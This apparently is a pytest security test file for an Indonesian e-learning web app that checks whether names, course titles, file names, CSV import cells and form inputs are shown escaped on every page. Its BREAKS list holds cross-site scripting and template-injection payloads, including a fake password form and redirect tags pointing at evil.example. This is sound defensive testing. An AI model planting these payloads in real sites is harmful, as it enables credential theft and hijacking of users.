"""U9: names, numbers, titles, file names and typed words show as they are and run nowhere."""

from html.parser import HTMLParser
from itertools import cycle

import pytest

from elearn.foundation.jobs.models import Job
from elearn.people.imports.models import Roster
from tests import world
from tests.security.test_pages import walk

# Each breaks out of another place: an element, an attribute, a script, an address, a template, a text area.
BREAKS = (
    '"><script>kanari()</script>',
    "'><img src=x onerror=kanari()>",
    "</title><svg onload=kanari()>",
    "</textarea><form action=//evil.example><input name=password>",
    "</script><iframe srcdoc=kanari()>",
    '" onmouseover="kanari()" x="',
    "javascript:kanari()//",
    "{{ 7*7 }}{% raw %}${7*7}",
    "<style>*{display:none}</style><base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
)
# What breaks out is seen at the first tag that it makes, so a text holds several at once; an address must begin as one.
TOGETHER = (BREAKS[6:7] + BREAKS[:3], BREAKS[3:6], BREAKS[7:])


class Danger(HTMLParser):
    """What of a page came out of a payload."""

    def __init__(self, html):
        super().__init__()
        self.found = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        given = dict(attrs)
        inline = tag == "style" or (tag == "script" and "src" not in given)
        if tag in ("iframe", "object", "embed", "base") or (inline and not given.get("nonce")):
            self.found.append(tag)
        if tag == "meta" and "evil" in (given.get("content") or ""):
            self.found.append("meta")
        for name, value in given.items():
            # What stands behind another site's question mark is words: a text to send with WhatsApp.
            leads_away = (value or "").strip().startswith(("//", "http:", "https:")) and "evil" in value.split("?")[0]
            if name.startswith("on") or (leads_away and name in ("action", "href", "src")):
                self.found.append(f"{tag} {name}={value}")
            if name in ("href", "src", "action") and (value or "").strip().lower().startswith("javascript:"):
                self.found.append(f"{tag} {name}={value}")


def harmless(answer, path):
    if answer.headers.get("content-type", "").startswith("text/html"):
        assert Danger(answer.text).found == [], path
        assert "49${7" not in answer.text.replace(" ", ""), f"{path} runs templates"


# Whether a payload can be stored and read is asked of both databases; the others differ in the signs on the page.
@pytest.mark.parametrize(
    "payloads",
    [
        pytest.param(each, id=f"set-{n}", marks=[pytest.mark.words_alone] if n else [])
        for n, each in enumerate(TOGETHER)
    ],
)
def test_what_is_stored_runs_on_no_page(everybody, objects, session, cast, payloads):
    """U9: payloads stand in names, NIP, OPDs, courses, files, jobs and questions; every page is read."""
    payload, turn = "".join(payloads), cycle(each[:58] for each in payloads)
    for person in (cast.ani, cast.eko, cast.budi, cast.citra):
        person.name = person.position = payload
        person.title_before, person.rank, person.title_after = next(turn), next(turn), next(turn)
    cast.ani.nip = next(turn)[:18]
    cast.dinas.name = cast.sekolah.name = payload
    cast.dinas.short_name, cast.sekolah.short_name = next(turn), next(turn)
    for course in session.scalars(world.select(world.Course)):
        course.title = course.summary = payload
        course.outcomes = [payload]
    for table in (world.Activity, world.Module):
        for row in session.scalars(world.select(table)):
            row.title = payload
    for material in session.scalars(world.select(world.Material)):
        material.file_name = material.problem = payload
        material.state = "failed"
    for job in session.scalars(world.select(Job)):
        job.title, job.message, job.error, job.state, job.unit = payload, payload, payload, "failed", next(turn)[:30]
    for roster in session.scalars(world.select(Roster)):
        roster.file_name, roster.headers, roster.mapping = payload, [payload, "Nama", "Unit"], {"nip": payload}
    for reading in session.scalars(world.select(world.Reading)):
        reading.source = f"{payload}\n\n## {payload}\n\n| {payload} |\n|---|\n| a |\n\n{world.LESSON}\n\n> {payload}"
    for version in session.scalars(world.select(world.QuestionVersion)):
        version.stem = payload
    session.commit()
    starts = ["/", "/pelatihan", "/capaian", "/saya", f"/pelatihan/{objects['slug']}", f"/kuis/{objects['attempt']}"]
    for kind, part in (("reading", "bacaan"), ("quiz", "kuis"), ("document", "dokumen"), ("recording", "rekaman")):
        starts.append(f"/belajar/{objects[kind]}/{part}")
    desks = ["/opd/pegawai", "/opd/kode", "/kelola/unit", "/kelola/pendaftaran", "/kelola/pengguna", "/pekerjaan"]
    desks += [f"/impor/pegawai/{objects['roster']}/kolom", f"/kelola/pendaftaran/{objects['batch']}"]
    desks += [f"/ajar/{objects['slug']}/unggah", f"/ajar/{objects['slug']}/berkas", f"/pekerjaan/{objects['job']}"]
    desks += [f"/ajar/dokumen/{objects['document']}", f"/ajar/rekaman/{objects['recording']}"]
    desks += [f"/opd/kode/{objects['sheet']}/slip", f"/verifikasi/{objects['code']}"]
    seen = {}
    for name in ("ani", "budi", "citra", "dewi"):
        for path, answer in walk(everybody[name], [*starts, *desks]).items():
            seen[path] = answer.status_code
            assert answer.status_code < 500, path
            harmless(answer, f"{path} as {name}")
    assert len(seen) > 30


@pytest.mark.words_alone
@pytest.mark.parametrize("payload", BREAKS)
def test_what_is_typed_runs_on_no_page(everybody, guest, objects, payload):
    """U9: refused forms come back with what was typed, and searches with what was sought, as plain words."""
    for visitor, path, fields in (
        (guest, "/masuk", {"identifier": payload, "password": "x" * 12, "lanjut": payload}),
        (guest, "/aktivasi", {"identifier": payload, "code": payload[:40], "password": "lima kata yang baru"}),
        (everybody["dewi"], "/kelola/pengguna/baru", {"name": payload, "nip": payload, "email": payload, "unit": "X"}),
        (everybody["dewi"], "/kelola/unit/baru", {"code": payload[:40], "name": payload, "kind": payload[:20]}),
        (everybody["dewi"], "/kelola/pendaftaran/periksa", {"course": "x", "by": "nip", "nips": payload}),
        (
            everybody["dewi"],
            "/kelola/pendaftaran/periksa",
            {"course": objects["slug"], "by": "nip", "nips": payload + "\n199001012015011001"},
        ),
        (everybody["ani"], "/saya/token", {"name": payload, "days": "9999"}),
        (everybody["budi"], f"/ajar/dokumen/{objects['document']}", {"title": "", "introduction": payload}),
    ):
        answer = visitor.post(path, fields)
        assert answer.status_code < 500, path
        harmless(answer, path)
    for path in ("/pelatihan", "/opd/pegawai", "/kelola/unit", "/kelola/pengguna", "/kelola/sertifikat"):
        harmless(everybody["dewi"].get(path, params={"q": payload, "unit": "", "lanjut": payload}), path)
    harmless(guest.get("/aktivasi", params={"kode": payload, "nip": payload}), "/aktivasi")
    harmless(guest.get("/masuk", params={"lanjut": payload}), "/masuk")
    harmless(guest.get("/verifikasi", params={"kode": payload}), "/verifikasi")
    harmless(guest.get("/tidak-ada/" + payload.replace("/", "")), "a page that is not there")


@pytest.mark.parametrize("payload", BREAKS)
def test_an_import_shows_cells_and_columns_as_words(dewi, cast, payload):
    """U9: file name, columns, cells and reasons of refused rows in the steps of an import."""
    quoted = '"' + payload.replace('"', '""') + '"'
    table = f"{quoted};NIP;Nama;Unit\r\nx;{quoted};{quoted};{quoted}\r\nx;199001012015011001;{quoted};DIK\r\n"
    sent = dewi.client.post("/impor/pegawai", files={"file": (payload.replace("/", "") + ".csv", table.encode())})
    assert sent.status_code in (303, 422)
    harmless(sent, "upload")
    if sent.status_code == 303:
        address = sent.headers["location"].rsplit("/", 1)[0]
        harmless(dewi.get(f"{address}/kolom"), "columns")
        mapped = dewi.post(f"{address}/kolom", {"nip": "NIP", "name": "Nama", "unit": "Unit"})
        harmless(mapped, "columns again")
        harmless(dewi.get(f"{address}/periksa"), "preview")
        refused = dewi.get(f"{address}/ditolak")
        assert refused.status_code < 500
        assert "attachment" in refused.headers.get("content-disposition", "attachment")
